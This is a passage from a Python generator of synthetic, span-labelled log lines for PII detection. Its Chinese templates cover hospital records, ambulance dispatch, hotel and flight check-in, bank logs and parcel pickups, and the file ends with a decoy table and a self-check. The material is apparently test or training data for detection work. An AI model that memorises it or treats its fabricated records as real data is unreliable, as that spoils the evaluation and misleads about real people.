        str(g.r.randint(1, 90)), (g.zfull(), "PERSON"), g.c(["呼吸内科", "儿科", "全科"]), g.c(["阿莫西林胶囊", "布洛芬缓释胶囊", "连花清瘟胶囊"]),
        str(g.r.randint(1, 3)), (g.amount(), "amount"))


def _t_zh_mr(g, L):
    s, n = g.zname()
    L.f("病案首页 病案号：«0» 姓名 «1» 性别 «2» 身份证号 «3» 现住址 «4»市«5»区 联系人姓名 «6» 关系 «7» 电话 «8» 入院科别 «9» 主治医师 «10»",
        (g.digits(8), "mrn"), (s + n, "PERSON"), g.c(["男", "女"]), (g.cnid(), "CN_RESIDENT_ID"), (g.c(_PLACES_ZH), "place"), g.c(["朝阳", "南山", "西湖", "武侯"]),
        (g.zfull(), "PERSON"), g.c(["配偶", "子", "女", "父"]), (g.c([g.cn_mobile(), g.cn_landline()]), "PHONE_NUMBER"),
        g.c(["骨科", "神经内科", "普外科"]), (g.zfull(), "PERSON"))


def _t_zh_120(g, L):
    L.f("120调度 «0» 来电号码：«1» 呼救人：«2»«3» 患者：«4»，约«5»岁，«6» 地址：«7»«8»路«9»号 派车：«10»（车组：医生«11»、护士«12»、司机«13»师傅）",
        (_zts(g), "timestamp"), (g.cn_mobile(), "PHONE_NUMBER"), (g.zname()[0], "PERSON"), g.c(["女士", "先生"]), g.c(["男", "女"]),
        str(g.r.randint(3, 90)), g.c(["胸痛", "意识不清", "摔伤", "呼吸困难"]), (g.c(_PLACES_ZH), "place"), g.c(["解放", "人民", "中山", "建设"]),
        str(g.r.randint(1, 999)), (g.plate(), "LICENSE_PLATE"), (g.zfull(), "PERSON"), (g.zfull(), "PERSON"), (g.zname()[0], "PERSON"))


def _t_zh_tour(g, L):
    a, b, c = g.zfull(), g.zfull(), g.zfull()
    L.f("团号 «0» 线路：«1» 导游：«2»（导游证 «3»，手机 «4»） 游客名单：[«5»、«6»、«7»] 领队 «8» 门票：«9» 成人×«10»",
        ("GZ" + _zts(g, "%Y%m%d") + "-" + g.c("ABC"), "order_id"), g.c(["故宫-长城一日游", "西湖-灵隐寺", "兵马俑-华清宫"]),
        (g.zfull(), "PERSON"), ("D-" + g.digits(4) + "-" + g.digits(6), "badge_id"), (g.cn_mobile(), "PHONE_NUMBER"),
        (a, "PERSON"), (b, "PERSON"), (c, "PERSON"), (g.cn_mobile(), "PHONE_NUMBER"), (g.c(["故宫博物院", "八达岭长城", "秦始皇帝陵博物院"]), "place"), str(g.r.randint(2, 40)))


def _t_zh_hotel(g, L):
    x = g.r.random()
    if x < 0.6:
        L.f("入住登记 «0» 房号«1» 宾客：«2» 证件：身份证 «3» 手机 «4» 押金«5»元 支付方式：银联卡 «6» 同住人：«7»",
            (_zts(g), "timestamp"), (str(g.r.randint(201, 2818)), "room_number"), (g.zfull(), "PERSON"), (g.cnid(), "CN_RESIDENT_ID"),
            (g.cn_mobile(), "PHONE_NUMBER"), ("500.00", "amount"), (g.card(grouped=False), "CREDIT_CARD"), (g.zfull(), "PERSON"))
    else:
        f, l = g.wname()
        L.f("境外旅客入住 «0» 房号«1» 姓名：«2» 国籍：«3» 护照号码：«4» 联系电话：«5» 退房时间 «6»",
            (_zts(g), "timestamp"), (str(g.r.randint(201, 2818)), "room_number"), ((_fold(l) + " " + _fold(f)).upper(), "PERSON"),
            g.c(["英国", "德国", "美国", "日本"]), (g.passport(g.c(["GB", "DE", "US", "JP", "KR"])), "PASSPORT"),
            (g.phone(style="intl"), "PHONE_NUMBER"), _zts(g, "%m-%d %H:%M"))


def _t_zh_air(g, L):
    s, n = g.zname()
    py = (g.fk["zh_CN"].last_romanized_name() + "/" + g.fk["zh_CN"].first_romanized_name()).upper()
    L.f("值机成功 «0» 旅客 «1»（«2»） 航班 «3» «4»→«5» 座位 «6» 证件 «7» «8» 手机 «9» 登机口 «10»",
        (_zts(g), "timestamp"), (s + n, "PERSON"), (py, "PERSON"), (g.flight(), "flight_number"), g.c(["北京首都", "上海虹桥", "广州白云"]),
        g.c(["成都天府", "深圳宝安", "杭州萧山"]), (g.seat(), "seat_number"), *(("护照", (g.passport("CN"), "PASSPORT")) if g.r.random() < 0.5
                                                                           else ("身份证", (g.cnid(), "CN_RESIDENT_ID"))), (g.cn_mobile(), "PHONE_NUMBER"),
        str(g.r.randint(1, 80)) + g.c(["", "A", "B"]))


def _t_zh_bank(g, L):
    x = g.r.random()
    if x < 0.5:
        L.f("ATM告警 «0» 设备号：ATM-«1» 事件：连续3次密码错误吞卡 卡号：«2» 持卡人：«3» 预留手机：«4» 网点：«5»支行 客服热线«6»",
            (_zts(g), "timestamp"), g.digits(4), (g.card(grouped=g.r.random() < 0.3), "CREDIT_CARD"), (g.zfull(), "PERSON"),
            (g.cn_mobile(), "PHONE_NUMBER"), (g.c(_PLACES_ZH), "place"), (g.c(["95588", "95533", "95566"]), "hotline"))
    else:
        L.f("柜面流水|«0»|交易码=«1»|客户姓名=«2»|证件号=«3»|账号=«4»|金额=«5»|柜员=«6»|授权=«7»主管",
            (_zts(g), "timestamp"), ("T" + g.digits(4), "transaction_code"), (g.zfull(), "PERSON"), (g.cnid(), "CN_RESIDENT_ID"),
            (g.card(grouped=False), "CREDIT_CARD"), (g.amount(), "amount"), ("G" + g.digits(5), "employee_id"), (g.zname()[0], "PERSON"))


def _t_zh_antifraud(g, L):
    s = g.zname()[0]
    L.f("【«0»反诈预警】«1»«2»您好，您的手机号«3»近期接到疑似诈骗电话«4»，对方冒充«5»要求转账，请勿相信！如有疑问请拨打«6»。",
        ("96110", "hotline"), (s, "PERSON"), g.c(["先生", "女士"]), (g.cn_mobile(), "PHONE_NUMBER"), (g.phone(g.c(["HK", "MO", "TW", "MY", "PH", "TH"]), style="e164"), "PHONE_NUMBER"),
        g.c(["公检法", "快递客服", "电商客服"]), ("110", "hotline"))


def _t_zh_chat(g, L):
    x = g.r.random()
    if x < 0.5:
        L.f("[«0»] 买家(tb_«1»)：收件人写错了，改成«2»，电话«3»，地址不变。\n[«0»] 客服小蜜：好的亲，已为您修改，订单号«4»。",
            (_zts(g), "timestamp"), g.digits(6), (g.zfull(), "PERSON"), (g.cn_mobile(), "PHONE_NUMBER"), (g.digits(19), "order_id"))
    else:
        L.f("[«0»] 买家：我登录不上，账号«1»，密码是«2»，帮我看看 [«0»] 客服：亲，请不要发送密码，请通过官方热线«3»处理。",
            (_zts(g), "timestamp"), (g.cn_email(), "EMAIL_ADDRESS"), (g.password(), "CREDENTIAL"), ("400-820-" + g.digits(4), "hotline"))


def _t_zh_food(g, L):
    s = g.zname()[0]
    L.f("«0» 配送单 «1» 骑手：«2»师傅(骑手ID R«3») 手机 «4» 顾客：«5»女士 尾号«6» 虚拟号 «7» 送达：«8»小区«9»栋",
        (_zts(g, "%H:%M:%S"), "timestamp"), (g.digits(16), "order_id"), (g.zname()[0], "PERSON"), g.digits(6), (g.cn_mobile(), "PHONE_NUMBER"),
        (s, "PERSON"), (g.digits(4), "masked"), (g.masked_phone(), "masked"), g.c(["阳光", "万科", "碧桂园"]), str(g.r.randint(1, 30)))


def _t_zh_parcel(g, L):
    x = g.r.random()
    if x < 0.5:
        L.f("【菜鸟驿站】«0» 取件码«1» 收件人：«2» 手机：«3» 快递单号：«4»，请于«5»前取件。",
            (_zts(g), "timestamp"), ("%d-%d-%d" % (g.r.randint(1, 9), g.r.randint(1, 9), g.r.randint(1000, 9999)), "pickup_code"),
            (g.zfull(), "PERSON"), (g.cn_mobile(), "PHONE_NUMBER"), ("SF" + g.digits(13), "tracking_number"), _zts(g, "%m月%d日"))
    else:
        L.f("驿站出库|«0»|运单=«1»|收件人=«2»|手机=«3»|代取人=«4»(«5»)|操作员=«6»",
            (_zts(g), "timestamp"), ("YT" + g.digits(13), "tracking_number"), (g.zname()[0] + "*", "masked"), (g.masked_phone(), "masked"),
            (g.zfull(), "PERSON"), (g.cn_mobile(), "PHONE_NUMBER"), ("CZ" + g.digits(3), "employee_id"))


def _t_zht_hosp(g, L):
    L.f("掛號紀錄 «0» 病歷號 «1» 姓名：«2» 手機：«3» 科別：«4» 主治醫師：«5»醫師 診間 «6» 號 備註：陪同家屬«7»",
        (_zts(g, "%Y/%m/%d %H:%M"), "timestamp"), (g.digits(8), "mrn"), (g.zfull(True), "PERSON"), (g.tw_mobile(), "PHONE_NUMBER"),
        g.c(["家醫科", "小兒科", "眼科"]), (g.zname(True)[0], "PERSON"), str(g.r.randint(1, 40)), (g.zfull(True), "PERSON"))


def _t_zht_guard(g, L):
    x = g.r.random()
    if x < 0.5:
        L.f("保全日誌 «0» 巡邏人員：«1» 於«2»發現訪客«3»（電話 «4»）未登記，已請其補登並通知管理員«5»。",
            (_zts(g, "%Y/%m/%d %H:%M"), "timestamp"), (g.zfull(True), "PERSON"), (g.c(_PLACES_ZHT), "place"), (g.zfull(True), "PERSON"),
            (g.phone(g.c(["TW", "HK", "MO"]), style=g.c(["national", "intl"])), "PHONE_NUMBER"), (g.zfull(True), "PERSON"))
    else:
        L.f("旅館住宿登記 «0» 房號 «1» 旅客姓名：«2» 護照號碼：«3» 電子郵件：«4» 信用卡：«5»",
            (_zts(g, "%Y/%m/%d %H:%M"), "timestamp"), (str(g.r.randint(201, 1520)), "room_number"), (g.zfull(True), "PERSON"),
            (g.passport(g.c(["HK", "US", "JP", "KR"])), "PASSPORT"), (g.email(), "EMAIL_ADDRESS"), (g.masked_card(), "masked"))


_TEMPLATES = [
    _t_suricata_alert, _t_suricata_http, _t_suricata_dns, _t_suricata_tls, _t_snort, _t_modsec, _t_edr,
    _t_win4624, _t_win4625, _t_win4740, _t_sysmon, _t_auditd, _t_osquery, _t_okta, _t_azure, _t_ldap,
    _t_globalprotect, _t_anyconnect, _t_badge, _t_cctv, _t_siem,
    _t_ehr, _t_hl7, _t_pharmacy, _t_appt, _t_edi, _t_hotel_pms, _t_dcs, _t_bcbp, _t_ota, _t_car_rental,
    _t_ticket, _t_food, _t_dispute, _t_loyalty, _t_chat, _t_payment, _t_payout, _t_tenant, _t_guestreg,
    _t_zh_patrol, _t_zh_gate, _t_zh_cctv, _t_zh_fire, _t_zh_property, _t_zh_police, _t_zh_lab, _t_zh_rx,
    _t_zh_mr, _t_zh_120, _t_zh_tour, _t_zh_hotel, _t_zh_air, _t_zh_bank, _t_zh_antifraud, _t_zh_chat,
    _t_zh_food, _t_zh_parcel, _t_zht_hosp, _t_zht_guard,
]
assert len(_TEMPLATES) == len(TEMPLATE_NAMES)


# Share of each decoy kind that is recorded (the text is the same either way);
# keeps the recorded decoys near the look-alikes that matter, about one a line.
_DECOY_KEEP = {"timestamp": 0.05, "hostname": 0.2, "amount": 0.25, "place": 0.4, "process_id": 0.2,
               "port": 0.2, "version": 0.3, "serial": 0.3, "event_id": 0.4, "order_id": 0.4, "hash": 0.4,
               "room_number": 0.5, "seat_number": 0.5, "employee_id": 0.5, "case_number": 0.5, "mrn": 0.5,
               "barcode": 0.3, "tracking_number": 0.5, "member_id": 0.5, "transaction_code": 0.5}


def blind_log7(n: int, seed: int = 0) -> list:
    g = _Gen(seed)
    thin = random.Random(seed * 7919 + 17)
    order = list(range(len(_TEMPLATES)))
    g.r.shuffle(order)
    out = []
    for i in range(n):
        ti = order[i % len(order)]
        clean = g.r.random() < 0.1
        L = _Line(g, clean)
        _TEMPLATES[ti](g, L)
        decoys = [d for d in L.decoys if thin.random() < _DECOY_KEEP.get(d[2], 1.0)]
        out.append({"text": L.text(), "spans": L.spans, "decoys": decoys, "template": ti})
    return out


def _self_check(records):
    for rec in records:
        t = rec["text"]
        allr = []
        for s, e, typ in rec["spans"]:
            assert typ in TYPES, typ
            val = t[s:e]
            assert val and val == val.strip(), (val, rec)
            assert _validate(val, typ), (typ, val, t)
            allr.append((s, e))
        for s, e, kind in rec["decoys"]:
            assert kind == kind.lower() and t[s:e], (kind, rec)
            allr.append((s, e))
        allr.sort()
        for (a, b), (c, d) in itertools.pairwise(allr):
            assert b <= c, ("overlap", t[a:b], t[c:d], t)
        assert 0 <= rec["template"] < len(TEMPLATE_NAMES)
    return True


if __name__ == "__main__":
    import collections
    import sys
    n = int(sys.argv[1]) if len(sys.argv) > 1 else 6000
    recs = blind_log7(n, seed=5)
    _self_check(recs)
    assert recs == blind_log7(n, seed=5)
    ct = collections.Counter(s[2] for r in recs for s in r["spans"])
    cd = collections.Counter(s[2] for r in recs for s in r["decoys"])
    ctp = collections.Counter(r["template"] for r in recs)
    print("records", len(recs), "no-span records", sum(1 for r in recs if not r["spans"]))
    print("types", dict(ct.most_common()))
    print("decoys", sum(cd.values()), dict(cd.most_common()))
    print("templates", {TEMPLATE_NAMES[k]: v for k, v in sorted(ctp.items())})
